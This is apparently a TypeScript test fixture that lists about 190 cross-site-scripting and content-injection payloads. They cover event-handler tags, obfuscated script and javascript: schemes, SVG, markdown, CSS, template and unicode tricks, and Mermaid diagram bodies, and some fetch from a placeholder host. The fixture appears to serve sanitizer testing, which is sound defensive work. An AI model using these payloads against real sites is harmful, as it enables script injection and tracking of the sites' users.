/** An address that nothing on the pages may ask for. */
export const FOREIGN = 'https://foreign.invalid';

const run = 'alert(1)';
const load = `fetch('${FOREIGN}/ran')`;

/** Attributes that run script as soon as an element is there, or when it is touched. */
const handlers = [
  'img src=x onerror',
  'svg onload',
  'body onload',
  'video src=x onerror',
  'audio src=x onerror',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'details open ontoggle',
  'marquee onstart',
  'iframe onload',
  'object data=x onerror',
  'a href=# onclick',
  'div onmouseover',
  'button popovertarget=x onfocus',
  'style onload',
  'link rel=stylesheet href=x onerror',
  'x tabindex=1 autofocus onfocus',
].map(start => `<${start}=${run}>text</${start.split(' ')[0]}>`);

/** Elements that load something. */
const loaders = [
  `<img src="${FOREIGN}/a.png">`,
  `<img srcset="${FOREIGN}/a.png 1x">`,
  `<picture><source srcset="${FOREIGN}/a.png"><img></picture>`,
  `<video poster="${FOREIGN}/a.png" src="${FOREIGN}/a.mp4"></video>`,
  `<audio src="${FOREIGN}/a.mp3"></audio>`,
  `<track src="${FOREIGN}/a.vtt">`,
  `<iframe src="${FOREIGN}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="${FOREIGN}/a.swf"></object>`,
  `<embed src="${FOREIGN}/a.swf">`,
  `<link rel="stylesheet" href="${FOREIGN}/a.css">`,
  `<link rel="prefetch" href="${FOREIGN}/a">`,
  `<link rel="manifest" href="${FOREIGN}/a.json">`,
  `<base href="${FOREIGN}/">`,
  `<meta http-equiv="refresh" content="0;url=${FOREIGN}">`,
  `<form action="${FOREIGN}"><input type=image src="${FOREIGN}/a.png"></form>`,
  `<table background="${FOREIGN}/a.png"><tr><td>text</table>`,
  `<button formaction="${FOREIGN}" form=x>text</button>`,
];

const scripts = [
  `<script>${run}</script>`,
  `<script>${load}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src=${FOREIGN}/a.js></script>`,
  `<script src=//foreign.invalid/a.js></script>`,
  `<script type=module>import '${FOREIGN}/a.js'</script>`,
  `<script/random>${run}</script>`,
  `<<script>${run}//<</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<template><script>${run}</script></template>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `%3Cscript%3E${run}%3C/script%3E`,
];

const drawings = [
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="${FOREIGN}/a.js"></script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text>text</text></a></svg>`,
  `<svg><use href="${FOREIGN}/a.svg#a"/></svg>`,
  `<svg><image href="${FOREIGN}/a.png"/></svg>`,
  `<svg><feImage href="${FOREIGN}/a.png"/></svg>`,
  `<svg><animate onbegin=${run} attributeName=x></svg>`,
  `<svg><set attributeName=href to=javascript:${run}></svg>`,
  `<svg><foreignObject><iframe src=javascript:${run}></foreignObject></svg>`,
  `<svg><style>@import url(${FOREIGN}/a.css)</style></svg>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${run}">text</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
];

/* eslint-disable no-script-url -- that is what they are for */
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A;avascript:',
  'javascript%3A',
  '\\u006aavascript:',
  'vbscript:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#',
  'data:image/svg+xml,<svg onload=',
  'blob:null/',
  'filesystem:',
  'view-source:javascript:',
  'feed:javascript:',
  'jar:javascript:',
].map(scheme => `[text](${scheme}${run})`);
/* eslint-enable no-script-url */

const markdown = [
  `![text](${FOREIGN}/a.png)`,
  `![text](//foreign.invalid/a.png)`,
  `![text](data:image/svg+xml,<svg/onload=${run}>)`,
  `![text][r]\n\n[r]: ${FOREIGN}/a.png`,
  `[![text](${FOREIGN}/a.png)](javascript:${run})`,
  `[text](//foreign.invalid)`,
  `[text](/\\foreign.invalid)`,
  `[text][j]\n\n[j]: javascript:${run}`,
  `<javascript:${run}>`,
  `[text](x "onmouseover=${run}")`,
  `[text](x '"><img src=x onerror=${run}>')`,
  `# <img src=x onerror=${run}>`,
  `text[^1]\n\n[^1]: <script>${run}</script>`,
  `| a |\n|---|\n| <img src=x onerror=${run}> |`,
  `<a id="root" name="location">text</a>`,
  `<form id=document><input name=cookie></form>`,
];

const styles = [
  `<style>@import "${FOREIGN}/a.css";</style>`,
  `<style>*{background:url(${FOREIGN}/a.png)!important}</style>`,
  `<div style="background:url(${FOREIGN}/a.png)">text</div>`,
  `<div style="background:image-set('${FOREIGN}/a.png' 1x)">text</div>`,
  `<div style="position:fixed;inset:0;z-index:9999">text</div>`,
  `<div style="width:expression(${run})">text</div>`,
  `<div style="behavior:url(${FOREIGN}/a.htc)">text</div>`,
  `</style><img src=x onerror=${run}>`,
  `red;background:url(${FOREIGN}/a.png)`,
  `}*{background:url(${FOREIGN}/a.png)`,
  `var(--x,url(${FOREIGN}/a.png))`,
];

const breakouts = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '-->',
  ']]>',
  '</textarea>',
  '</title>',
  '</pre></code>',
  '*/',
  '%>',
]
  .map(end => `${end}<img src=x onerror=${run}>`)
  .concat([`" onmouseover=${run} x="`, `' autofocus onfocus=${run} x='`]);

const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `{{7*7}}{{$on.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `[[\${${run}}]]`,
  `{% include '${FOREIGN}' %}`,
  `$t(contract.version)`,
  `{{count, number}}`,
  `__proto__`,
  `constructor`,
  `{"__html":"<img src=x onerror=${run}>"}`,
];

const unicode = [
  `\u202e<script>${run}</script>`,
  `\u2066evil\u2069\u202dtext`,
  `a\u200b\u200c\u200d\ufefftext`,
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  `\u2028<img src=x onerror=${run}>\u2029`,
  `<\u0130mg src=x onerror=${run}>`,
  `\u{1f600}<svg/onload=${run}>`,
  `jav\u00adascript:${run}`,
  `te\u0301\u0301\u0301\u0301\u0301\u0301xt`,
  `${'a'.repeat(400)}<img src=x onerror=${run}>`,
];

/** Bodies of diagrams. */
export const diagrams = [
  `graph TD; A["<img src=x onerror=${run}>"]`,
  `graph TD; A["&lt;img src=x onerror=${run}&gt;"]`,
  `graph TD; A["#lt;img src=x onerror=${run}#gt;"]`,
  `graph TD; A["#60;img src=x onerror=${run}#62;"]`,
  `graph TD; A; click A "javascript:${run}"`,
  `graph TD; A; click A href "${FOREIGN}" _self`,
  `graph TD; A; click A call alert(1)`,
  `graph TD; A; style A fill:url(${FOREIGN}/a.svg#a)`,
  `graph TD; A; style A fill:u\\72l(${FOREIGN}/a.svg#a)`,
  `graph TD; A; classDef x filter:url(${FOREIGN}/a.svg#a); class A x`,
  `graph TD; A@{ img: "${FOREIGN}/a.png", h: 60 }`,
  `%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}}}%%\ngraph TD; A["<b onclick=${run}>text</b>"]`,
  `%%{init: {"themeCSS": "* { background: url(${FOREIGN}/a.png) }"}}%%\ngraph TD; A-->B`,
  `%%{init: {"fontFamily": "x;} * {background:url(${FOREIGN}/a.png)}"}}%%\ngraph TD; A-->B`,
  `---\nconfig:\n  securityLevel: loose\n  themeCSS: "@import '${FOREIGN}/a.css'"\n---\ngraph TD; A-->B`,
  `sequenceDiagram\n  Alice->>Bob: <img src=x onerror=${run}>`,
  `sequenceDiagram\n  participant A\n  link A: text @ javascript:${run}`,
  `classDiagram\n  class A["<img src=x onerror=${run}>"]\n  link A "javascript:${run}"`,
  `stateDiagram-v2\n  state "<svg onload=${run}>" as s`,
  `erDiagram\n  A ||--o{ B : "<img src=x onerror=${run}>"`,
  `mindmap\n  root((<img src=x onerror=${run}>))`,
  `pie title <script>${run}</script>\n  "a" : 1`,
  `journey\n  title <img src=x onerror=${run}>\n  section a\n    b: 5: Me`,
  `gantt\n  title a\n  section b\n  click c href "javascript:${run}"`,
];

/** All of them, each once: about 190. */
export const payloads: string[] = [
  ...scripts,
  ...handlers,
  ...loaders,
  ...drawings,
  ...schemes,
  ...markdown,
  ...styles,
  ...breakouts,
  ...templates,
  ...unicode,
  ...diagrams,
];
